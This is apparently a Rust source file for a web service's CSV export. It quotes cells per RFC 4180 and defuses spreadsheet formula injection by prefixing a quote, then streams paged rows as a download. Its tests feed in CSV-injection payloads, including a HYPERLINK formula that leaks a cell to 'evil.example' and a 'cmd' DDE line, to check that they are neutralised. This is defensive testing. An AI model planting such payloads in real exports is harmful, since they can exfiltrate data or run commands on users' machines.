//! Writing CSV for people and spreadsheets: RFC 4180 quoting, CRLF line ends, and no
//! formulas. A cell a spreadsheet would run as a formula (starting with `= + - @`, a
//! tab or a CR) leaves with a leading `'`, OWASP's CSV-injection advice; a plain number
//! (an E.164 phone, `-5`, `3.5`) stays as it is. The import takes that `'` off again
//! ([`restore`]), so an export re-imports to the same values.

/// The characters that make a spreadsheet read a cell as a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `cell` (after any `'`s) starts like a formula and is not a plain number.
fn formula_like(cell: &str) -> bool {
    let rest = cell.trim_start_matches('\'');
    rest.starts_with(TRIGGERS) && !plain_number(rest)
}

/// `[+-]digits[.digits]`: what a spreadsheet reads as a number, never a formula.
fn plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (int, frac) = digits.split_once('.').unwrap_or((digits, "0"));
    !int.is_empty()
        && !frac.is_empty()
        && int.bytes().all(|b| b.is_ascii_digit())
        && frac.bytes().all(|b| b.is_ascii_digit())
}

/// A cell as it goes out: one `'` in front when a spreadsheet would run it.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    if formula_like(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as it comes back in: the `'` [`neutralise`] added taken off.
pub fn restore(cell: &str) -> Option<&str> {
    cell.strip_prefix('\'').filter(|rest| formula_like(rest))
}

/// Appends one CSV line (cells neutralised, quoted when they contain a delimiter, a
/// quote or a line break; quotes doubled) followed by CRLF.
pub fn push_line<S: AsRef<str>>(out: &mut String, fields: &[S]) {
    for (i, field) in fields.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        let f = neutralise(field.as_ref());
        if f.contains([',', ';', '"', '\r', '\n']) {
            out.push('"');
            out.push_str(&f.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(&f);
        }
    }
    out.push_str("\r\n");
}

/// A CSV file to download: `text/csv; charset=utf-8` as `filename`.
pub fn attachment(body: axum::body::Body, filename: &'static str) -> axum::response::Response {
    use axum::http::header::{HeaderValue, CONTENT_DISPOSITION, CONTENT_TYPE};
    let mut res = axum::response::Response::new(body);
    let headers = res.headers_mut();
    headers.insert(
        CONTENT_TYPE,
        HeaderValue::from_static("text/csv; charset=utf-8"),
    );
    if let Ok(v) = HeaderValue::from_str(&format!("attachment; filename=\"{filename}\"")) {
        headers.insert(CONTENT_DISPOSITION, v);
    }
    res
}

/// A CSV body streamed page by page: the `header` columns, then the rows of `first`
/// and of every page `next` reads after it (given the rows written so far and the last
/// row's key), each row written by `row`. A page shorter than `page_size` is the last;
/// a store error ends the body with an error, so the download is visibly cut.
pub fn paged_body<T, F, Fut>(
    header: &[&str],
    first: Vec<T>,
    page_size: u64,
    key: fn(&T) -> String,
    row: fn(&mut String, T),
    next: F,
) -> axum::body::Body
where
    T: Send + 'static,
    F: Fn(u64, String) -> Fut + Send + Sync + 'static,
    Fut: std::future::Future<Output = crate::store::StoreResult<Vec<T>>> + Send,
{
    let mut head = String::new();
    push_line(&mut head, header);
    let state = (Some(head), Some(first), 0u64, next);
    let stream =
        futures_util::stream::unfold(state, move |(head, page, written, next)| async move {
            if let Some(h) = head {
                return Some((
                    Ok::<_, std::io::Error>(bytes::Bytes::from(h)),
                    (None, page, written, next),
                ));
            }
            let page = page?;
            let full = page.len() as u64 == page_size;
            let written = written + page.len() as u64;
            let last = page.last().map(key).unwrap_or_default();
            let mut out = String::with_capacity(page.len() * 128);
            for item in page {
                row(&mut out, item);
            }
            let following = if full {
                match next(written, last).await {
                    Ok(p) => Some(p),
                    Err(e) => {
                        let cut = Err(std::io::Error::other(e.to_string()));
                        return Some((cut, (None, None, written, next)));
                    }
                }
            } else {
                None
            };
            Some((
                Ok(bytes::Bytes::from(out)),
                (None, following, written, next),
            ))
        });
    axum::body::Body::from_stream(stream)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quotes_only_when_needed() {
        let mut out = String::new();
        push_line(
            &mut out,
            &[
                "+32475123456",
                "said \"no\", twice",
                "a;b",
                "line\nbreak",
                "",
            ],
        );
        assert_eq!(
            out,
            "+32475123456,\"said \"\"no\"\", twice\",\"a;b\",\"line\nbreak\",\r\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_and_numbers_are_not() {
        for (cell, out) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd"),
            ("@SUM(1+1)", "'@SUM"),
            ("-2+3", "'-2+3"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("'=x", "''=x"),
            ("+32475123456", "+32475123456"),
            ("-5", "-5"),
            ("3.25", "3.25"),
            ("+", "'+"),
            ("'plain", "'plain"),
            ("O'Brien", "O'Brien"),
        ] {
            let n = neutralise(cell);
            assert!(n.starts_with(out), "{cell:?} -> {n:?}");
            assert_eq!(restore(&n).unwrap_or(&n), cell, "{cell:?} comes back");
        }
    }

    #[tokio::test]
    async fn a_paged_body_reads_every_page_after_the_first() {
        use http_body_util::BodyExt;
        let rows: Vec<u32> = (1..=5).collect();
        let body = super::paged_body(
            &["n"],
            rows[..2].to_vec(),
            2,
            |n: &u32| n.to_string(),
            |out, n| super::push_line(out, &[n.to_string()]),
            move |written, after| {
                let rows = rows.clone();
                async move {
                    assert_eq!(after, written.to_string(), "the last key is the count here");
                    let from = usize::try_from(written).unwrap_or(0);
                    Ok(rows[from..(from + 2).min(rows.len())].to_vec())
                }
            },
        );
        let text = body
            .collect()
            .await
            .map(|b| b.to_bytes())
            .unwrap_or_default();
        assert_eq!(&text[..], b"n\r\n1\r\n2\r\n3\r\n4\r\n5\r\n");
    }
}
